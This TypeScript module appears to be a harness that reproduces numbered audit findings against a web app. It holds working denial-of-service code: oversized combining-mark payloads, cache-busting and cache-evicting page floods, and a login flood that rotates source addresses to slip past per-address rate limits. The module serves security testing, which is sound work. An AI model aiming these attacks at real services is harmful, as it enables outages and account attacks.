import { type Outcome, sendFor, type Target } from './sending.ts';
import { attackByStreamsAndPictures } from './streams-and-pictures.ts';

export type AttackName = keyof typeof ATTACKS;

const JSON_TYPE = { 'content-type': 'application/json' };

/** 248 KB of marks on one letter, and the dearest texts of 16 KB that the rules still allow, in turns. */
function attackByTexts({ origin, seconds }: Target): Promise<Outcome> {
  const person = { full_name: 'آزمون نمونه', phone_number: '09361111111' };
  const stacked = JSON.stringify({ ...person, note: `ا${'\u0301\u064e'.repeat(62_000)}` });
  // Eight marks are the most that may stand on a letter, and a note has a thousand characters.
  const tall = `ا${'\u0651\u064e'.repeat(4)}`;
  const note = tall.repeat(111);
  const message = tall.repeat(770);
  const legal = JSON.stringify({ ...person, note, message });
  return sendFor(seconds, 4, (n) => ({
    url: `${origin}/call-requests`,
    label: n % 2 === 0 ? '248 KB ' : '16 KB ',
    sending: {
      method: 'POST',
      from: '203.0.113.1',
      headers: JSON_TYPE,
      body: n % 2 === 0 ? stacked : legal,
    },
  }));
}

/** Pages that are rendered for one asker alone: another search each time. */
function attackByDearPages({ origin, seconds }: Target): Promise<Outcome> {
  return sendFor(seconds, 32, (n) => ({
    url: `${origin}/products?q=${n}`,
    sending: { from: '203.0.113.2', headers: { accept: 'text/html', 'accept-encoding': 'br' } },
  }));
}

/** Addresses that no page has, as a page and as its data, to drive the known ones out of the memory. */
function attackByUnknownPages({ origin, seconds }: Target): Promise<Outcome> {
  const unknown = [(n: number) => `/x${n}.data`, (n: number) => `/products/zz${n}`];
  return sendFor(seconds, 32, (n) => ({
    url: `${origin}${unknown[n % unknown.length]?.(n)}`,
    sending: { from: '203.0.113.3', headers: { accept: 'text/html' } },
  }));
}

/** Wrong passwords for ever new numbers; an address that has had its hour's limit gives way to the next. */
function attackByLogins({ origin, seconds }: Target): Promise<Outcome> {
  const perAddress = 300;
  return sendFor(seconds, 64, (n) => {
    const phone_number = `0937${String(n % 10_000_000).padStart(7, '0')}`;
    const address = Math.floor(n / perAddress);
    return {
      url: `${origin}/auth/login`,
      sending: {
        method: 'POST',
        from: `203.0.${(address >> 8) & 255}.${address & 255}`,
        headers: JSON_TYPE,
        body: JSON.stringify({ phone_number, password: 'این-گذرواژه-نیست' }),
      },
    };
  });
}

/** The attacks by the number of the finding. */
export const ATTACKS = {
  A1: { title: 'texts that are dear to read, from one address', attack: attackByTexts },
  A2: {
    title: 'pages rendered for one asker, on 32 connections, from one address',
    attack: attackByDearPages,
  },
  A3: { title: 'addresses that no page has, on 32 connections', attack: attackByUnknownPages },
  A4: {
    title: '1181 event streams and 48 pictures at a time, from one account',
    attack: attackByStreamsAndPictures,
  },
  A5: { title: 'sign-ins on 64 connections, from one address at a time', attack: attackByLogins },
};
